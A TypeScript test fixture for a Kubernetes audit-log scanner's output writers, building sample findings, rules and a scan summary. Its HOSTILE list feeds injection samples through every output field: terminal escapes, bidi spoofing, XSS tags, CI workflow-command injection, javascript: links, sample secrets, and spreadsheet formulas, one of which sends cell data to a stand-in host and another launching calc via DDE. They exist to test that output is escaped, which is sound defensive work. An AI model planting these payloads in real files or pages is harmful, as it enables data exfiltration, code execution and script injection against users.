import { NO_SUBJECT } from '../../src/engine/event-subject.ts';
import { SummaryBuilder } from '../../src/engine/summary.ts';
import type { ScanSummary } from '../../src/engine/summary.ts';
import type { Finding } from '../../src/engine/finding.ts';
import { Digest } from '../../src/outputs/card/digest.ts';
import { utcTime } from '../../src/outputs/show-time.ts';
import type { OutputContext, RuleInfo, Sink } from '../../src/outputs/writer.ts';

const START = 1_767_323_045_000_000_000n; // 2026-01-02T03:04:05Z

/** A finding with defaults for what a test does not care about. */
export function finding(parts: Partial<Finding> = {}): Finding {
  return {
    rule: 'Attach/Exec Pod',
    priority: 'Notice',
    source: 'k8s_audit',
    tags: ['T1609', 'k8s'],
    time: START,
    message: 'Exec in pod (user=alice pod=web-0)',
    timeText: '03:04:05.000000000',
    outputFields: [
      ['evt.time', START],
      ['ka.target.name', 'web-0'],
      ['ka.user.name', 'alice'],
    ],
    auditId: '7e0c1c55-0000-4000-8000-000000000001',
    stage: 'ResponseComplete',
    origin: { file: 'logs/audit.log', line: 12 },
    ...parts,
    subject: { ...NO_SUBJECT, ...parts.subject },
  };
}

/** Every kind of text that some sink would misread. */
export const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ['escape codes', '\u001b[31mred\u001b]0;title\u0007\u001b[2J\u009b31m\u007f\b\f\u0000'],
  ['bidi', 'user\u202egpj.exe\u2066x\u2069\u200f\u200b\ufeff'],
  ['formula', '=HYPERLINK("http://evil.example/?"&A1,"x")'],
  ['formula at', "@SUM(1+1)*cmd|'/C calc'!A0"],
  ['html', '<script>alert(1)</script><img src=x onerror="alert(2)">\'"`</td></table><!-- -->'],
  [
    'workflow command',
    'x\n::set-output name=a::b\r\n::error file=/etc/passwd,line=1::pwned %0A ##[error]y',
  ],
  ['quotes', 'a"b\'c`d\\e","x":"y'],
  ['newlines', 'one\ntwo\r\nthree\u2028four\u2029five\ttab\n\n| a | b |'],
  ['lone surrogates', '\ud800 and \udc00\ud83d'],
  [
    'markdown',
    '[click](javascript:alert(1)) ![x](http://evil.example/x.png) **b** `c` | d @everyone www.evil.example',
  ],
  ['cdata', ']]> <![CDATA[ \ufffe'],
  ['wide', '日本語 🦊 e\u0301 한국 👩\u200d💻'],
  ['long', `long-${'x'.repeat(5000)}-end`],
  ['secrets', 'token=hunter2hunter2 Bearer abcdefghij0123456789 AKIAIOSFODNN7EXAMPLE'],
];

function hostile(text: string, index: number): Finding {
  const time = START + BigInt(index + 10) * 1_000_000_000n + 123n;
  return finding({
    rule: text,
    priority: 'Warning',
    source: text,
    tags: [text],
    time,
    timeText: text,
    message: text,
    outputFields: [
      ['evt.time', time],
      [text, [text, text]],
    ],
    auditId: text,
    stage: text,
    origin: { file: text, line: index + 100, cluster: text, node: text, stream: text },
    subject: {
      user: text,
      impersonatedUser: text,
      verb: text,
      resource: text,
      subresource: text,
      namespace: text,
      name: text,
      sourceIp: text,
      userAgent: text,
      code: text,
    },
  });
}

/** The set behind every golden file: ordinary findings, then hostile ones. */
export const FINDINGS: readonly Finding[] = [
  finding({
    subject: {
      ...NO_SUBJECT,
      user: 'alice@example.com',
      verb: 'create',
      resource: 'pods',
      subresource: 'exec',
      namespace: 'shop',
      name: 'web-7d4b9c6f5-x2x8q',
      sourceIp: '203.0.113.7',
      userAgent: 'kubectl/v1.31.0 (linux/amd64)',
      code: '101',
    },
  }),
  finding({
    rule: 'Create Privileged Pod',
    priority: 'Critical',
    tags: [],
    time: START + 3_600_000_000_001n,
    timeText: '04:04:05.000000001',
    message:
      'Privileged pod created (user=system:serviceaccount:ci:deployer pod=node-debugger ns=kube-system images=(busybox:1.36,alpine) reason="RBAC: allowed by ClusterRoleBinding \\"ci\\"")',
    outputFields: [
      ['evt.time', START + 3_600_000_000_001n],
      ['evt.is_async', false],
      ['ka.req.pod.containers.image', ['busybox:1.36', 'alpine']],
      ['ka.uri.param[a]', null],
      ['ka.user.name', 'system:serviceaccount:ci:deployer'],
    ],
    auditId: '7e0c1c55-0000-4000-8000-000000000002',
    origin: { file: 'logs/audit.log', line: 13, cluster: 'prod', node: 'cp-1', stream: 's' },
    subject: {
      ...NO_SUBJECT,
      user: 'system:serviceaccount:ci:deployer',
      impersonatedUser: 'admin',
      verb: 'create',
      resource: 'pods',
      namespace: 'kube-system',
      name: 'node-debugger',
      sourceIp: '10.0.0.12',
      userAgent: 'curl/8.5.0',
      code: '201',
    },
  }),
  finding({
    rule: 'Anonymous Request',
    priority: 'Informational',
    time: START + 86_400_000_000_000n,
    timeText: '03:04:05.000000000',
    message: 'Anonymous request (uri=/healthz)',
    auditId: undefined,
    stage: undefined,
    origin: { file: '-', line: 1 },
    subject: { ...NO_SUBJECT, user: 'system:anonymous', verb: 'deletecollection' },
  }),
  ...HOSTILE.map(([, text], index) => hostile(text, index)),
];

const RULES: readonly RuleInfo[] = [
  {
    name: 'Attach/Exec Pod',
    description: 'Someone ran a command in a pod.',
    priority: 'Notice',
    tags: ['T1609', 'k8s'],
    enabled: true,
  },
  {
    name: 'Create Privileged Pod',
    description: 'A privileged pod can take over its node.\nSecond line | <b>"x"</b>',
    priority: 'Critical',
    tags: [],
    enabled: true,
  },
  { name: 'Never Fires', description: 'Quiet.', priority: 'Debug', tags: [], enabled: true },
  { name: 'Switched Off', description: '', priority: 'Error', tags: [], enabled: false },
];

export function summary(): ScanSummary {
  const builder = new SummaryBuilder();
  builder.input('logs/audit.log');
  builder.input('-');
  builder.read({ bytes: 123_456_789, lines: 54_321, blankLines: 2 });
  for (const one of FINDINGS) builder.event(one.time, [one]);
  for (let i = 0; i < 20_000; i++) builder.event(START + BigInt(i) * 1_000_000_000n, []);
  for (let i = 0; i < 1500; i++) builder.filter('outside --since/--until');
  builder.problem('logs/audit.log', {
    reason: 'malformed-json',
    line: 7,
    detail: 'unexpected "\u001b[31m"',
  });
  builder.problem('logs/audit.log', { reason: 'malformed-json', line: 9 });
  builder.problem('logs/bad\u202e.gz', { reason: 'decompress-cut', line: 0 });
  for (let i = 1; i < 4000; i++) builder.problem('-', { reason: 'klog', line: i });
  builder.note('2 rules could not be evaluated: the log has no request bodies');
  return builder.build(1234);
}

/** What a summary tells of the set. */
export function digest(): Digest {
  const result = new Digest();
  for (const one of FINDINGS) result.add(one);
  return result;
}

export function context(parts: Partial<OutputContext> = {}): OutputContext {
  return {
    color: false,
    width: 80,
    terminal: false,
    version: '1.2.3',
    showSecrets: false,
    rules: RULES,
    failOn: 'Warning',
    formatTime: utcTime,
    timezone: 'UTC',
    csvRaw: false,
    ...parts,
  };
}

/** A sink that remembers what was written. */
export function memorySink(): Sink & { readonly text: () => string } {
  const parts: string[] = [];
  return { write: (text) => void parts.push(text), text: () => parts.join('') };
}
